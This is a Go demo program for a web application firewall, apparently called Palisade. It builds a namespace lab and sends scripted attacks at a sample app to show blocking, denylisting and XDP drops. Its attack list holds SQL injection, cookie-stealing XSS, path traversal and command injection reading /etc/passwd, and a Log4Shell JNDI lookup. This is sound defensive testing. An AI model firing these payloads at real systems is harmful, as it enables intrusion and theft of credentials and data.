// Command demo brings the whole Palisade loop up on one machine, for `sudo
// make demo`: the cloud on its embedded database, and a network-namespace
// lab where an enrolled agent protects an unmodified sample application.
// A scripted attacker gets blocked at L7 and reported; the cloud's default
// trigger denylists it; the signed ruleset reaches the node and XDP drops
// the attacker's packets while a legit client keeps working. It prints
// what was blocked, reported, generated and dropped, and where to look
// next, then waits for Ctrl-C (or `make demo-down`) to clean up; -once
// cleans up right after the summary.
package main

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/palisadewaf/palisade/cloud/apitypes"
	"github.com/palisadewaf/palisade/cloud/client"
	"github.com/palisadewaf/palisade/tools/lab"
)

func main() {
	bin := flag.String("bin", "bin", "directory with palisade-agent, palisade-cloud and palisadectl")
	state := flag.String("state", ".demo", "directory for the demo's state (cloud database, node identity, logs)")
	once := flag.Bool("once", false, "clean up right after the summary instead of waiting for Ctrl-C")
	flag.Parse()
	if os.Geteuid() != 0 {
		log.Fatal("the demo builds network namespaces and loads XDP: run it as root (sudo make demo)")
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := run(ctx, *bin, *state, *once); err != nil {
		log.Fatal(err)
	}
}

const cloudPort = "8080"

type demo struct {
	bin, state string
	lab        *lab.Lab
	host       *lab.NS
	client     *lab.NS
	attacker   *lab.NS
	cloud      *lab.NS
	procs      []*exec.Cmd
	pinPath    string
	socket     string
	cfg        string
}

func run(ctx context.Context, bin, state string, once bool) error {
	bin, _ = filepath.Abs(bin)
	state, _ = filepath.Abs(state)
	// A fresh state each time: the demo enrolls a new node in a new cloud.
	if err := os.RemoveAll(state); err != nil {
		return err
	}
	if err := os.MkdirAll(state, 0o700); err != nil {
		return err
	}
	pidFile := filepath.Join(state, "demo.pid")
	if err := os.WriteFile(pidFile, []byte(fmt.Sprint(os.Getpid())), 0o600); err != nil {
		return err
	}
	defer os.Remove(pidFile)
	d := &demo{bin: bin, state: state, lab: lab.NewDetached("pdemo"),
		pinPath: "/sys/fs/bpf/palisade-demo", socket: filepath.Join(state, "agent.sock"), cfg: filepath.Join(state, "agent.yaml")}
	defer d.cleanup()

	step("building the lab: namespaces pdemo-host, pdemo-cli, pdemo-att, pdemo-cloud (198.18.0.0/15)")
	var err error
	for _, ns := range []struct {
		p    **lab.NS
		name string
	}{{&d.host, "host"}, {&d.client, "cli"}, {&d.attacker, "att"}, {&d.cloud, "cloud"}} {
		if *ns.p, err = d.lab.AddNS(ns.name); err != nil {
			return err
		}
	}
	ifCli, _, err := d.lab.Link(d.host, d.client)
	if err != nil {
		return err
	}
	ifAtt, _, err := d.lab.Link(d.host, d.attacker)
	if err != nil {
		return err
	}
	if _, _, err := d.lab.Link(d.host, d.cloud); err != nil {
		return err
	}
	cloudURL := "http://" + net.JoinHostPort(d.cloud.Addr4.String(), cloudPort)

	step("starting the cloud on its embedded SQLite database: " + cloudURL + " (in pdemo-cloud)")
	password := randomHex(12)
	cloud := d.cloud.Command(ctx, filepath.Join(bin, "palisade-cloud"), "serve",
		"--listen", net.JoinHostPort(d.cloud.Addr4.String(), cloudPort), "--data-dir", filepath.Join(state, "cloud"))
	cloud.Env = append(os.Environ(), "PALISADE_ADMIN_PASSWORD="+password)
	if err := d.start(cloud, "cloud.log"); err != nil {
		return err
	}
	hc := d.host.HTTPClient(30 * time.Second)
	if err := waitFor(ctx, func() bool {
		resp, err := hc.Get(cloudURL + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	}); err != nil {
		return fmt.Errorf("cloud: %w (see %s)", err, filepath.Join(state, "cloud.log"))
	}
	api, err := client.New(cloudURL, "", hc)
	if err != nil {
		return err
	}
	login, err := api.Login(ctx, "admin@palisade.local", password)
	if err != nil {
		return fmt.Errorf("login: %w", err)
	}
	api = api.WithToken(login.Token)
	app, err := api.CreateApp(ctx, apitypes.CreateAppRequest{Name: "shop", FiltrationMode: "block"})
	if err != nil {
		return fmt.Errorf("create application: %w", err)
	}

	step("starting the sample application on port 80 of pdemo-host (unmodified: it knows nothing of Palisade)")
	appLn, err := d.host.Listen("tcp", ":80")
	if err != nil {
		return err
	}
	go http.Serve(appLn, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from the shop, %s\n", r.Header.Get("X-Real-IP"))
	}))

	step("enrolling the node with a one-time token, then starting palisade-agent (XDP on " + ifCli + ", " + ifAtt + ")")
	tok, err := api.CreateEnrollToken(ctx, "demo node", time.Hour)
	if err != nil {
		return err
	}
	nodeState := filepath.Join(state, "node")
	if out, err := d.host.Command(ctx, filepath.Join(bin, "palisade-agent"), "enroll", "--cloud", cloudURL,
		"--token", tok.Secret, "--state-dir", nodeState, "--config", d.cfg).CombinedOutput(); err != nil {
		return fmt.Errorf("enroll: %v: %s", err, out)
	} else {
		fmt.Print(indent(string(out)), "\n")
	}
	err = os.WriteFile(d.cfg, []byte(fmt.Sprintf(`# palisade-agent configuration written by the demo (docs/OPERATIONS.md)
xdp:
  interfaces: [%s, %s]
  mode: auto
  pin_path: %s
  samples_per_second: 20
admin:
  socket: %s
metrics:
  listen: 127.0.0.1:9464
cloud:
  url: %s
  state_dir: %s
proxy:
  reporting:
    dir: %s
applications:
  - id: %d
    name: shop
    mode: block
    intercept: {ports: [80]}      # transparent: the app keeps port 80
    upstream: http://127.0.0.1:80
`, ifCli, ifAtt, d.pinPath, d.socket, cloudURL, nodeState, filepath.Join(state, "report"), app.ID)), 0o600)
	if err != nil {
		return err
	}
	if err := d.start(d.host.Command(ctx, filepath.Join(bin, "palisade-agent"), "--config", d.cfg), "agent.log"); err != nil {
		return err
	}
	metrics := d.host.HTTPClient(5 * time.Second)
	if err := waitFor(ctx, func() bool { return scrape(metrics, "palisade_steering_ports") >= 1 }); err != nil {
		return fmt.Errorf("agent did not come up (see %s)", filepath.Join(state, "agent.log"))
	}

	appURL := "http://" + net.JoinHostPort(d.host.Addr4.String(), "80")
	step("scripted attack")
	fmt.Printf("   client   %s GET /: %s\n", d.client.Addr4, get(ctx, d.client, appURL+"/"))
	attacks := []string{
		"/?id=1'+OR+'1'='1", "/?q=<script>alert(document.cookie)</script>", "/?file=../../../../etc/passwd",
		"/?cmd=;cat+/etc/passwd", "/?u=${jndi:ldap://198.18.9.9/a}",
	}
	for i := range 10 {
		a := attacks[i%len(attacks)]
		fmt.Printf("   attacker %s GET %-44s %s\n", d.attacker.Addr4, a, get(ctx, d.attacker, appURL+a))
	}
	fmt.Println("   ... the node reports each attack; the cloud's default trigger (10 attacks in 5 minutes) denylists the source")
	appAddr := net.JoinHostPort(d.host.Addr4.String(), "80")
	start := time.Now()
	if err := waitFor(ctx, func() bool { return !d.attacker.CanConnect(appAddr, 300*time.Millisecond) }); err != nil {
		return errors.New("the attacker was not dropped by XDP (see the logs)")
	}
	fmt.Printf("   attacker %s: packets dropped by XDP %s after the last attack\n", d.attacker.Addr4, time.Since(start).Round(10*time.Millisecond))
	fmt.Printf("   attacker %s GET /: %s\n", d.attacker.Addr4, get(ctx, d.attacker, appURL+"/"))
	fmt.Printf("   client   %s GET /: %s\n", d.client.Addr4, get(ctx, d.client, appURL+"/"))

	step("summary")
	evs, _, _ := api.SearchEvents(ctx, client.EventQuery{Limit: 100})
	blocked := 0
	for _, e := range evs {
		if e.Decision == "blocked" {
			blocked++
		}
	}
	fmt.Printf("   blocked at L7 (403):        %d requests\n", int(scrape(metrics, `palisade_requests_total{app="shop",decision="blocked"}`)))
	fmt.Printf("   reported to the cloud:      %d events (%d blocked), masked before they left the node\n", len(evs), blocked)
	entries, _ := api.ListIPEntries(ctx)
	for _, e := range entries {
		fmt.Printf("   generated by a trigger:     %s list %s until %s (%s)\n", e.List, e.Prefix, e.Expires.Format(time.TimeOnly), e.Reason)
	}
	fmt.Printf("   dropped by XDP:             %d packets\n", int(scrape(metrics, `palisade_xdp_packets_total`, `action="drop"`)))
	fmt.Printf("   ruleset in force on node:   version %d\n", int(scrape(metrics, "palisade_ruleset_version")))
	fmt.Printf(`
Where to look next:
  the cloud API (admin@palisade.local / %[3]s):
    sudo ip netns exec pdemo-host %[1]s/palisadectl cloud login --url %[4]s --email admin@palisade.local
    sudo ip netns exec pdemo-host curl -s %[4]s/api/v1/openapi.json | head
  the node:
    sudo %[1]s/palisadectl deny ls --socket %[2]s
    sudo %[1]s/palisadectl xdp stats --socket %[2]s
    sudo ip netns exec pdemo-host curl -s 127.0.0.1:9464/metrics | grep '^palisade_'
  logs: %[5]s/agent.log, %[5]s/cloud.log
`, bin, d.socket, password, cloudURL, state)
	if once {
		return nil
	}
	fmt.Println("\nRunning; press Ctrl-C to stop and clean up (sudo make demo-down does the same from another shell).")
	<-ctx.Done()
	return nil
}

func (d *demo) start(cmd *exec.Cmd, logName string) error {
	f, err := os.Create(filepath.Join(d.state, logName))
	if err != nil {
		return err
	}
	cmd.Stdout, cmd.Stderr = f, f
	cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	if err := cmd.Start(); err != nil {
		return fmt.Errorf("start %s: %w", cmd.Path, err)
	}
	d.procs = append(d.procs, cmd)
	return nil
}

func (d *demo) cleanup() {
	step("cleaning up")
	for i := len(d.procs) - 1; i >= 0; i-- {
		p := d.procs[i]
		if p.Process != nil && p.ProcessState == nil {
			_ = p.Process.Signal(syscall.SIGTERM)
			_ = p.Wait()
		}
	}
	if _, err := os.Stat(d.cfg); err == nil {
		if out, err := exec.Command(filepath.Join(d.bin, "palisade-agent"), "--detach", "--config", d.cfg).CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "detach: %v: %s", err, out)
		}
	}
	d.lab.Close()
}

// get fetches url from inside ns and describes the outcome in a few words.
func get(ctx context.Context, ns *lab.NS, url string) string {
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	resp, err := ns.HTTPClient(2 * time.Second).Do(req)
	if err != nil {
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			return "no answer (dropped)"
		}
		return "error: " + err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 120))
	first, _, _ := strings.Cut(strings.TrimSpace(string(b)), "\n")
	if resp.StatusCode == http.StatusForbidden {
		return resp.Status + " (blocked by Palisade)"
	}
	return fmt.Sprintf("%s %q", resp.Status, first)
}

// scrape sums the agent's samples of a metric whose line starts with name
// and contains every want.
func scrape(c *http.Client, name string, want ...string) float64 {
	resp, err := c.Get("http://127.0.0.1:9464/metrics")
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var sum float64
	for _, line := range strings.Split(string(b), "\n") {
		if !strings.HasPrefix(line, name) || strings.HasPrefix(line, "#") {
			continue
		}
		ok := true
		for _, w := range want {
			ok = ok && strings.Contains(line, w)
		}
		var v float64
		if f := strings.Fields(line); ok && len(f) >= 2 {
			if _, err := fmt.Sscan(f[len(f)-1], &v); err == nil {
				sum += v
			}
		}
	}
	return sum
}

func waitFor(ctx context.Context, ok func() bool) error {
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if ok() {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(150 * time.Millisecond):
		}
	}
	return errors.New("timed out")
}

func step(s string) { fmt.Printf("==> %s\n", s) }

func indent(s string) string {
	return "   " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n   ")
}

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}
